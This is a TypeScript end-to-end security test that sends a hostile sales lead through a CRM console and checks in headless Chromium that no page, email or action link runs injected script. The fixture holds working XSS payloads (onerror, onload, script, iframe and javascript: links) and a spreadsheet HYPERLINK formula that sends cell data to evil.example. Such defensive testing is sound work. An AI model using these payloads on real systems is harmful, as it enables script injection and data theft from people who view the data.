/**
 * A lead that attacks whoever reads it, in headless Chromium against the whole local runtime: markup and
 * script in every field a form can post (name, company, job title, message, UTM values, a custom field, the
 * page URL), a spreadsheet formula as a name, a `javascript:` website, and a phone with an extension. Every
 * page that shows the lead (the owner's overview, list, search, lead page; ops' reports, SLA and webhooks
 * pages; a not-found page echoing the path), the rep's email and the action pages its links open are rendered
 * with a listener for CSP violations, and none may run a script (`window.__pwned`), grow an element from the
 * lead's text, or be refused by the CSP for one. Every call link dials exactly the digits its text shows.
 */
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { people } from '../../lambdas/domain/sign-in.ts';
import { launchChromium } from '../support/chromium.ts';
import { signIn } from '../support/console.ts';
import { type E2e, exampleLead, MONDAY_0900_BERLIN, startE2e } from '../support/e2e.ts';

const P =
  '"><img src=x onerror="window.__pwned=1"><svg onload="window.__pwned=2"><script>window.__pwned=3</script>' +
  '\'><iframe srcdoc="<script>parent.__pwned=4</script>"></iframe><a href="javascript:window.__pwned=5">x</a>';
const HOSTILE = {
  ...exampleLead('hot'),
  email: 'mallory@brauhaus-werke.example',
  firstName: `M${P}`.slice(0, 100),
  lastName: '=HYPERLINK("https://evil.example/?"&A1,"Open")',
  company: `Brauhaus ${P}`,
  phone: '+49 30 1234567 ext 89',
  message: `Hello ${P}\nline two {{lead.email}} \${lead.email}`,
  website: 'javascript:window.__pwned=6',
  utm_source: P,
  utm_campaign: P,
  custom_note: P,
  pageUrl: `https://kessler-industrial.example/demo?x=${encodeURIComponent(P)}`,
};
/** elements the lead's text would grow, were it not escaped */
const INJECTED =
  'img[src="x"], svg[onload], iframe, script, [onerror], [onload], a[href^="javascript:"], a[href^="data:"]';

/** what a page did with the lead: a script run, elements grown, CSP violations, call links */
interface Seen {
  readonly pwned: unknown;
  readonly injected: number;
  readonly violations: readonly string[];
  readonly calls: readonly { readonly href: string; readonly text: string }[];
}

const SEE = `({
  pwned: window.__pwned,
  injected: document.querySelectorAll(${JSON.stringify(INJECTED)}).length,
  violations: window.__violations || [],
  calls: [...document.querySelectorAll('a[href^="tel:"]')].map((a) => ({ href: a.getAttribute('href'), text: a.textContent })),
})`;

async function watch(context: BrowserContext): Promise<Page> {
  const page = await context.newPage();
  await page.addInitScript(`document.addEventListener('securitypolicyviolation', (e) => {
    window.__violations = (window.__violations || []).concat(e.violatedDirective + ' ' + e.blockedURI);
  })`);
  return page;
}

describe('a hostile lead, read in headless Chromium', () => {
  let e2e: E2e | undefined;
  let browser: Browser | undefined;
  let leadId = '';
  let repEmail = '';

  beforeAll(async () => {
    e2e = await startE2e({ time: { manual: MONDAY_0900_BERLIN } });
    expect((await e2e.postLead(HOSTILE)).status).toBe(202);
    await e2e.settle();
    leadId = e2e.leadIdOf(HOSTILE.email);
    const ownerId = (await e2e.readLead(leadId)).owner?.id;
    const rep = e2e.sla.routing.reps.find((candidate) => candidate.id === ownerId);
    if (!rep) throw new Error('the lead was not handed to a rep');
    repEmail = rep.email;
    browser = await launchChromium();
  });

  afterAll(async () => {
    await browser?.close();
    await e2e?.close();
  });

  async function signedIn(email: string): Promise<BrowserContext> {
    const e = e2e!;
    const cookie = await signIn(e.runtime, email);
    const [name, value] = [cookie.slice(0, cookie.indexOf('=')), cookie.slice(cookie.indexOf('=') + 1)];
    const context = await browser!.newContext({ viewport: { width: 1280, height: 900 } });
    await context.addCookies([{ name, value, url: e.url }]);
    return context;
  }

  async function visit(context: BrowserContext, url: string): Promise<Seen & { status?: number }> {
    const page = await watch(context);
    const status = (await page.goto(url))?.status();
    const seen = (await page.evaluate(SEE)) as Seen;
    await page.close();
    return { ...seen, ...(status === undefined ? {} : { status }) };
  }

  it('no console page runs, grows or is refused anything from the lead', async () => {
    // Arrange
    const e = e2e!;
    const q = encodeURIComponent(P);
    const rep = await signedIn(repEmail);
    const ops = await signedIn(people(e.sla).find((person) => person.role === 'ops')!.email);
    const pages: [BrowserContext, string][] = [
      [rep, '/console'],
      [rep, '/console/leads'],
      [rep, `/console/leads?q=${q}`],
      [rep, `/console/leads/${leadId}`],
      [rep, `/console/${q}`],
      [ops, `/console/leads/${leadId}`],
      [ops, '/console/reports'],
      [ops, `/console/sla?revoked=${q}`],
      [ops, '/console/webhooks'],
    ];

    // Act
    const seen = [];
    for (const [context, path] of pages) seen.push({ path, ...(await visit(context, `${e.url}${path}`)) });

    // Assert
    for (const page of seen) {
      expect(page.pwned, page.path).toBeUndefined();
      expect(page.injected, page.path).toBe(0);
      expect(page.violations, page.path).toEqual([]);
    }
    const lead = seen.find((page) => page.path === `/console/leads/${leadId}`)!;
    expect(lead.status).toBe(200);
    expect(lead.calls).toEqual([{ href: 'tel:+49301234567', text: '+49 30 1234567' }]);
  });

  it("the rep's email and the action pages its links open run, grow and are refused nothing", async () => {
    // Arrange
    const e = e2e!;
    const [mail] = await e.mailsTo(repEmail);
    if (!mail) throw new Error('the rep got no email');
    const links = [...mail.html.matchAll(/href="([^"]*\/actions\/[^"]+)"/g)].map(([, href]) =>
      href!.replace(/&amp;/g, '&'),
    );
    const context = await browser!.newContext();

    // Act: the email as a client shows it (scripts allowed here, nothing loaded), then each action page
    const page = await watch(context);
    await page.route('**/*', (route) => route.abort());
    await page.setContent(mail.html);
    const email = (await page.evaluate(SEE)) as Seen;
    await page.close();
    await context.unrouteAll();
    const actions = [];
    for (const link of links) actions.push({ link, ...(await visit(context, link)) });

    // Assert
    expect(email.pwned).toBeUndefined();
    expect(email.injected).toBe(0);
    expect(email.calls).toEqual([{ href: 'tel:+49301234567', text: '+49 30 1234567' }]);
    expect(mail.text).toContain('+49 30 1234567 ext 89');
    expect(actions.length).toBeGreaterThan(0);
    for (const action of actions) {
      expect(action.status, action.link).toBe(200);
      expect(action.pwned, action.link).toBeUndefined();
      expect(action.injected, action.link).toBe(0);
      expect(action.violations, action.link).toEqual([]);
    }
  });
});
